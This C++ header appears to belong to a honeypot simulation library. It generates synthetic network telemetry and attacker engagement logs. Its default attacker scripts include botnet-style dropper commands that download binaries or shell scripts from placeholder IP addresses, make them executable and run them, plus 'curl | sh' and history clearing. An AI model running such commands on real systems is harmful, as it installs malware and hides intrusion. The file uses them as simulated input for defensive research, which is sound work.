#pragma once

#include <algorithm>
#include <cstdint>
#include <istream>
#include <limits>
#include <map>
#include <ostream>
#include <set>
#include <string>
#include <vector>

#include <nlohmann/json.hpp>

#include "adlah/errors.hpp"
#include "adlah/hash.hpp"
#include "adlah/rng.hpp"

namespace adlah {

using SimTime = std::int64_t;  // integer sim-seconds since epoch; no wall clock

// One sensor-visible telemetry record. Field names are the wire names used
// by the JSONL trace format.
struct NetworkEvent {
    SimTime timestamp = 0;
    std::string src_ip;
    double flow_duration = 0.0;  // seconds
    std::int64_t bytes_toserver = 0;
    std::int64_t bytes_toclient = 0;
    int ip_ttl = 0;            // 0..255
    int dest_port = 0;         // 0..65535
    int src_port = 0;          // 0..65535
    std::int64_t asn = 0;
    std::string src_cc = "missing";  // 2-letter code or "missing"
    std::string tcp_flag_pattern;    // e.g. "S", "SA"
    std::string flow_state;
    std::string event_type;  // e.g. "flow", "syn_scan"
    std::string proto;       // "tcp", "udp", "icmp", "raw"
    std::string payload;     // raw bytes, possibly empty

    void validate() const {
        if (ip_ttl < 0 || ip_ttl > 255)
            throw ValidationError("ip_ttl out of range [0,255]: " + std::to_string(ip_ttl));
        if (dest_port < 0 || dest_port > 65535)
            throw ValidationError("dest_port out of range [0,65535]: " + std::to_string(dest_port));
        if (src_port < 0 || src_port > 65535)
            throw ValidationError("src_port out of range [0,65535]: " + std::to_string(src_port));
        if (src_ip.empty()) throw ValidationError("src_ip is empty");
        if (proto.empty()) throw ValidationError("proto is empty");
    }
};

enum class ProfileKind { scanner, scripted_bot, persistent_bot, quiet };

inline std::string to_string(ProfileKind k) {
    switch (k) {
        case ProfileKind::scanner: return "scanner";
        case ProfileKind::scripted_bot: return "scripted_bot";
        case ProfileKind::persistent_bot: return "persistent_bot";
        case ProfileKind::quiet: return "quiet";
    }
    return "?";
}

inline ProfileKind profile_kind_from_string(const std::string& s) {
    if (s == "scanner") return ProfileKind::scanner;
    if (s == "scripted_bot") return ProfileKind::scripted_bot;
    if (s == "persistent_bot") return ProfileKind::persistent_bot;
    if (s == "quiet") return ProfileKind::quiet;
    throw ConfigError("unknown profile kind: " + s);
}

// Simulated attacker. One profile drives exactly one source IP. All behavior
// here is artifact invention: the underlying telemetry corpus carries no
// attacker ground truth, so profiles are synthetic by construction.
struct AttackerProfile {
    std::string profile_id;
    ProfileKind kind = ProfileKind::scanner;
    double event_rate = 0.0;  // sensor events per sim-minute
    std::vector<int> port_pool;
    std::vector<std::string> engagement_script;  // commands once redirected
    int burst_length = 1;

    bool engages() const {
        return kind == ProfileKind::scripted_bot || kind == ProfileKind::persistent_bot;
    }

    void validate() const {
        if (profile_id.empty()) throw ConfigError("profile_id is empty");
        if (engages() != !engagement_script.empty())
            throw ValidationError("profile " + profile_id +
                                  ": engagement_script must be non-empty iff kind is "
                                  "scripted_bot or persistent_bot");
        if (burst_length < 1)
            throw ValidationError("profile " + profile_id + ": burst_length < 1");
        if (event_rate < 0)
            throw ValidationError("profile " + profile_id + ": negative event_rate");
        for (int p : port_pool)
            if (p < 0 || p > 65535)
                throw ValidationError("profile " + profile_id + ": port out of range");
    }
};

struct EventTrace {
    std::vector<NetworkEvent> events;  // time-ordered
    std::uint64_t seed = 0;
};

// One captured pod interaction: (timestamp, src_ip, command).
struct InteractionLog {
    SimTime timestamp = 0;
    std::string src_ip;
    std::string command;
};

namespace detail {

inline const char* kB64Alphabet =
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

inline std::string base64_encode(const std::string& in) {
    std::string out;
    out.reserve((in.size() + 2) / 3 * 4);
    std::size_t i = 0;
    for (; i + 2 < in.size(); i += 3) {
        std::uint32_t v = (std::uint8_t(in[i]) << 16) | (std::uint8_t(in[i + 1]) << 8) |
                          std::uint8_t(in[i + 2]);
        out += kB64Alphabet[(v >> 18) & 63];
        out += kB64Alphabet[(v >> 12) & 63];
        out += kB64Alphabet[(v >> 6) & 63];
        out += kB64Alphabet[v & 63];
    }
    if (i < in.size()) {
        std::uint32_t v = std::uint8_t(in[i]) << 16;
        bool two = i + 1 < in.size();
        if (two) v |= std::uint8_t(in[i + 1]) << 8;
        out += kB64Alphabet[(v >> 18) & 63];
        out += kB64Alphabet[(v >> 12) & 63];
        out += two ? kB64Alphabet[(v >> 6) & 63] : '=';
        out += '=';
    }
    return out;
}

inline std::string base64_decode(const std::string& in) {
    auto val = [](char c) -> int {
        if (c >= 'A' && c <= 'Z') return c - 'A';
        if (c >= 'a' && c <= 'z') return c - 'a' + 26;
        if (c >= '0' && c <= '9') return c - '0' + 52;
        if (c == '+') return 62;
        if (c == '/') return 63;
        if (c == '=') return -1;
        throw ValidationError(std::string("payload: invalid base64 character '") + c + "'");
    };
    if (in.size() % 4 != 0) throw ValidationError("payload: base64 length not a multiple of 4");
    std::string out;
    out.reserve(in.size() / 4 * 3);
    for (std::size_t i = 0; i < in.size(); i += 4) {
        int a = val(in[i]), b = val(in[i + 1]), c = val(in[i + 2]), d = val(in[i + 3]);
        if (a < 0 || b < 0) throw ValidationError("payload: malformed base64 padding");
        std::uint32_t v = (std::uint32_t(a) << 18) | (std::uint32_t(b) << 12) |
                          (c < 0 ? 0 : std::uint32_t(c) << 6) | (d < 0 ? 0 : std::uint32_t(d));
        out += char((v >> 16) & 0xff);
        if (c >= 0) out += char((v >> 8) & 0xff);
        if (d >= 0) out += char(v & 0xff);
    }
    return out;
}

}  // namespace detail

// --- JSONL trace format -----------------------------------------------------
// One NetworkEvent object per line, snake_case field names, payload base64.
// The same format accepts externally captured telemetry.

inline nlohmann::json to_json(const NetworkEvent& e) {
    return nlohmann::json{{"timestamp", e.timestamp},
                          {"src_ip", e.src_ip},
                          {"flow_duration", e.flow_duration},
                          {"bytes_toserver", e.bytes_toserver},
                          {"bytes_toclient", e.bytes_toclient},
                          {"ip_ttl", e.ip_ttl},
                          {"dest_port", e.dest_port},
                          {"src_port", e.src_port},
                          {"asn", e.asn},
                          {"src_cc", e.src_cc},
                          {"tcp_flag_pattern", e.tcp_flag_pattern},
                          {"flow_state", e.flow_state},
                          {"event_type", e.event_type},
                          {"proto", e.proto},
                          {"payload", detail::base64_encode(e.payload)}};
}

inline NetworkEvent event_from_json(const nlohmann::json& j) {
    NetworkEvent e;
    try {
        e.timestamp = j.at("timestamp").get<SimTime>();
        e.src_ip = j.at("src_ip").get<std::string>();
        e.flow_duration = j.at("flow_duration").get<double>();
        e.bytes_toserver = j.at("bytes_toserver").get<std::int64_t>();
        e.bytes_toclient = j.at("bytes_toclient").get<std::int64_t>();
        e.ip_ttl = j.at("ip_ttl").get<int>();
        e.dest_port = j.at("dest_port").get<int>();
        e.src_port = j.at("src_port").get<int>();
        e.asn = j.at("asn").get<std::int64_t>();
        e.src_cc = j.at("src_cc").get<std::string>();
        e.tcp_flag_pattern = j.at("tcp_flag_pattern").get<std::string>();
        e.flow_state = j.at("flow_state").get<std::string>();
        e.event_type = j.at("event_type").get<std::string>();
        e.proto = j.at("proto").get<std::string>();
        e.payload = detail::base64_decode(j.at("payload").get<std::string>());
    } catch (const nlohmann::json::exception& ex) {
        throw ValidationError(std::string("event record: ") + ex.what());
    }
    e.validate();
    return e;
}

inline void write_trace_jsonl(std::ostream& os, const EventTrace& trace) {
    for (const auto& e : trace.events) os << to_json(e).dump() << "\n";
}

inline EventTrace read_trace_jsonl(std::istream& is) {
    EventTrace trace;
    std::string line;
    SimTime prev = std::numeric_limits<SimTime>::min();
    std::size_t lineno = 0;
    while (std::getline(is, line)) {
        ++lineno;
        if (line.empty()) continue;
        nlohmann::json j;
        try {
            j = nlohmann::json::parse(line);
        } catch (const nlohmann::json::exception& ex) {
            throw IoError("trace line " + std::to_string(lineno) + ": " + ex.what());
        }
        NetworkEvent e = event_from_json(j);
        if (e.timestamp < prev)
            throw ValidationError("trace line " + std::to_string(lineno) +
                                  ": timestamps decrease");
        prev = e.timestamp;
        trace.events.push_back(std::move(e));
    }
    return trace;
}

// --- trace generation -------------------------------------------------------

// Deterministic source address for a profile; collisions are resolved by
// generate_trace / assign_src_ips via linear probing over the 32-bit value.
inline std::string ip_from_u32(std::uint32_t v) {
    // keep first octet in [1, 223] so addresses look plausibly routable
    std::uint32_t a = 1 + (v >> 24) % 223;
    return std::to_string(a) + "." + std::to_string((v >> 16) & 0xff) + "." +
           std::to_string((v >> 8) & 0xff) + "." + std::to_string(v & 0xff);
}

// Stable src_ip per profile, independent of which other profiles exist except
// when hashes collide (then order decides the probe).
inline std::vector<std::string> assign_src_ips(const std::vector<AttackerProfile>& profiles) {
    std::vector<std::string> ips;
    std::set<std::string> used;
    ips.reserve(profiles.size());
    for (const auto& p : profiles) {
        std::uint32_t v = static_cast<std::uint32_t>(fnv1a64(p.profile_id));
        std::string ip = ip_from_u32(v);
        while (used.count(ip)) ip = ip_from_u32(++v);
        used.insert(ip);
        ips.push_back(ip);
    }
    return ips;
}

namespace detail {

inline const std::vector<std::string>& country_codes() {
    static const std::vector<std::string> cc = {"cn", "us", "ru", "br", "in", "de",
                                                "nl", "vn", "kr", "ir", "fr", "gb",
                                                "missing"};
    return cc;
}

// Fills the per-event fields that depend on the profile's fixed identity.
struct ProfileIdentity {
    std::int64_t asn;
    std::string src_cc;
    int ttl_base;

    static ProfileIdentity derive(const AttackerProfile& p) {
        std::uint64_t h = fnv1a64(p.profile_id);
        ProfileIdentity id;
        id.asn = 1000 + static_cast<std::int64_t>(h % 60000);
        id.src_cc = country_codes()[mix64(h) % country_codes().size()];
        static const int ttl_bases[] = {47, 52, 64, 115, 128, 240};
        id.ttl_base = ttl_bases[mix64(h ^ 0x7f) % 6];
        return id;
    }
};

inline NetworkEvent make_event(const AttackerProfile& p, const ProfileIdentity& id,
                               const std::string& src_ip, SimTime t, Rng& rng) {
    NetworkEvent e;
    e.timestamp = t;
    e.src_ip = src_ip;
    e.asn = id.asn;
    e.src_cc = id.src_cc;
    e.ip_ttl = std::clamp<int>(id.ttl_base + int(rng.uniform_int(7)) - 3, 0, 255);
    e.src_port = 1024 + int(rng.uniform_int(65536 - 1024));
    e.dest_port = p.port_pool.empty() ? int(rng.uniform_int(65536))
                                      : p.port_pool[rng.uniform_int(p.port_pool.size())];
    switch (p.kind) {
        case ProfileKind::scanner:
            e.proto = "tcp";
            e.event_type = "syn_scan";
            e.tcp_flag_pattern = "S";
            e.flow_state = "new";
            e.flow_duration = 0.0;
            e.bytes_toserver = 40 + std::int64_t(rng.uniform_int(21));
            e.bytes_toclient = 0;
            break;
        case ProfileKind::scripted_bot:
        case ProfileKind::persistent_bot: {
            e.proto = "tcp";
            e.event_type = "flow";
            const char* flags[] = {"S", "SA", "PA", "FA"};
            e.tcp_flag_pattern = flags[rng.uniform_int(4)];
            e.flow_state = rng.bernoulli(0.5) ? "established" : "closed";
            e.flow_duration = rng.uniform(0.5, 30.0);
            e.bytes_toserver = 100 + std::int64_t(rng.uniform_int(1900));
            e.bytes_toclient = 60 + std::int64_t(rng.uniform_int(500));
            if (rng.bernoulli(0.7)) {
                std::size_t n = 8 + rng.uniform_int(56);
                e.payload.reserve(n);
                for (std::size_t i = 0; i < n; ++i) {
                    // mostly printable with a sprinkling of control bytes
                    e.payload += rng.bernoulli(0.85)
                                     ? char(0x20 + rng.uniform_int(95))
                                     : char(rng.uniform_int(32));
                }
            }
            break;
        }
        case ProfileKind::quiet: {
            const char* protos[] = {"udp", "icmp", "raw"};
            e.proto = protos[rng.uniform_int(3)];
            e.event_type = "flow";
            e.flow_state = "new";
            e.flow_duration = rng.uniform(0.0, 1.0);
            e.bytes_toserver = std::int64_t(rng.uniform_int(120));
            e.bytes_toclient = 0;
            break;
        }
    }
    return e;
}

}  // namespace detail

// Generates the full sensor trace for a profile population. One RNG stream
// per profile, seeded from (seed, profile_id), so adding or removing a
// profile never perturbs the other profiles' events.
inline EventTrace generate_trace(const std::vector<AttackerProfile>& profiles,
                                 SimTime horizon, std::uint64_t seed) {
    if (profiles.empty()) throw ConfigError("profiles: empty profile list");
    if (horizon <= 0) throw ConfigError("horizon: must be > 0 sim-seconds");

    const auto ips = assign_src_ips(profiles);
    EventTrace trace;
    trace.seed = seed;

    for (std::size_t i = 0; i < profiles.size(); ++i) {
        const auto& p = profiles[i];
        p.validate();
        if (p.event_rate <= 0.0) continue;
        Rng rng(stream_seed(seed, p.profile_id));
        const auto id = detail::ProfileIdentity::derive(p);

        // Events come in bursts of burst_length; inter-burst gaps are
        // exponential with mean chosen so the long-run rate matches
        // event_rate per sim-minute.
        const double mean_gap_s = 60.0 * p.burst_length / p.event_rate;
        double t = rng.exponential(mean_gap_s);
        while (t < double(horizon)) {
            SimTime bt = SimTime(t);
            for (int b = 0; b < p.burst_length && bt < horizon; ++b) {
                trace.events.push_back(detail::make_event(p, id, ips[i], bt, rng));
                bt += 1 + SimTime(rng.uniform_int(5));
            }
            t += rng.exponential(mean_gap_s);
        }
    }

    std::stable_sort(trace.events.begin(), trace.events.end(),
                     [](const NetworkEvent& a, const NetworkEvent& b) {
                         return a.timestamp < b.timestamp;
                     });
    return trace;
}

// Pod-side interaction replay for an engaged attacker. Deterministic in
// (profile, window, seed); command offsets are relative to window start.
// Non-engaging kinds yield nothing under every window.
inline std::vector<InteractionLog> engagement_logs(const AttackerProfile& profile,
                                                   SimTime window_start, SimTime window_end,
                                                   std::uint64_t seed) {
    if (window_start >= window_end)
        throw ValidationError("engagement window: start must be < end");
    profile.validate();
    if (!profile.engages()) return {};

    const std::string src_ip = assign_src_ips({profile})[0];
    Rng rng(stream_seed(seed ^ fnv1a64(profile.profile_id), "engagement"));

    std::vector<InteractionLog> logs;
    SimTime t = window_start + 2 + SimTime(rng.uniform_int(7));
    auto emit_pass = [&](bool& fits) {
        for (const auto& cmd : profile.engagement_script) {
            if (t >= window_end) {
                fits = false;
                return;
            }
            logs.push_back({t, src_ip, cmd});
            t += 5 + SimTime(rng.uniform_int(36));
        }
        fits = true;
    };

    bool fits = true;
    emit_pass(fits);
    if (profile.kind == ProfileKind::persistent_bot) {
        // keeps looping its script (with longer think-time) until the pod goes away
        while (fits && t < window_end) {
            t += 20 + SimTime(rng.uniform_int(71));
            emit_pass(fits);
        }
    }
    return logs;
}

// --- calibrated default population -------------------------------------//
// 70% scanner / 20% scripted_bot / 8% persistent_bot / 2% quiet, with rates
// chosen so the median per-IP daily event count lands near 4.

inline std::vector<std::string> default_bot_script(int variant) {
    switch (variant % 3) {
        case 0:
            return {"cd /tmp",
                    "wget http://203.0.113.55/sora.sh",
                    "chmod 777 sora.sh",
                    "sh sora.sh",
                    "rm -rf sora.sh",
                    "exit"};
        case 1:
            return {"enable", "system", "shell",
                    "cat /proc/mounts",
                    "wget http://198.51.100.12/arm7 -O /tmp/.x",
                    "chmod +x /tmp/.x",
                    "/tmp/.x"};
        default:
            return {"uname -a",
                    "cat /proc/cpuinfo | grep model",
                    "curl -s http://192.0.2.99/k.sh | sh",
                    "history -c"};
    }
}

inline std::vector<AttackerProfile> default_profiles(int n_ips) {
    if (n_ips <= 0) throw ConfigError("n_ips: must be > 0");
    std::vector<AttackerProfile> out;
    out.reserve(n_ips);
    const double per_day = 1.0 / 1440.0;  // one event per sim-minute == 1440/day
    for (int i = 0; i < n_ips; ++i) {
        AttackerProfile p;
        p.profile_id = "ip-" + std::to_string(i);
        // 35/10/4/1 out of every 50 => 70/20/8/2, interleaved so small
        // populations still carry the full mix
        const int bucket = i % 50;
        const bool is_bot = bucket % 5 == 2;
        const bool is_persistent = bucket == 4 || bucket == 16 || bucket == 29 || bucket == 41;
        const bool is_quiet = bucket == 24;
        if (!is_bot && !is_persistent && !is_quiet) {
            // calibrated against a median of ~4 daily events per active IP
            p.kind = ProfileKind::scanner;
            p.event_rate = 4.0 * per_day;
            p.burst_length = 2;
            p.port_pool = {23, 80, 443, 8080, 5060, 123, 2323, 7547};
        } else if (is_bot) {
            p.kind = ProfileKind::scripted_bot;
            p.event_rate = 6.0 * per_day;
            p.burst_length = 2;
            p.port_pool = {23};
            p.engagement_script = default_bot_script(i);
        } else if (is_persistent) {
            p.kind = ProfileKind::persistent_bot;
            p.event_rate = 30.0 * per_day;
            p.burst_length = 6;
            p.port_pool = {22};
            p.engagement_script = {"uname -a",
                                   "w",
                                   "wget http://203.0.113.200/sshkit.bin",
                                   "chmod +x sshkit.bin",
                                   "./sshkit.bin --daemon",
                                   "crontab -l"};
        } else {
            p.kind = ProfileKind::quiet;
            p.event_rate = 0.3 * per_day;
            p.burst_length = 1;
            p.port_pool = {53, 161};
        }
        out.push_back(std::move(p));
    }
    return out;
}

}  // namespace adlah
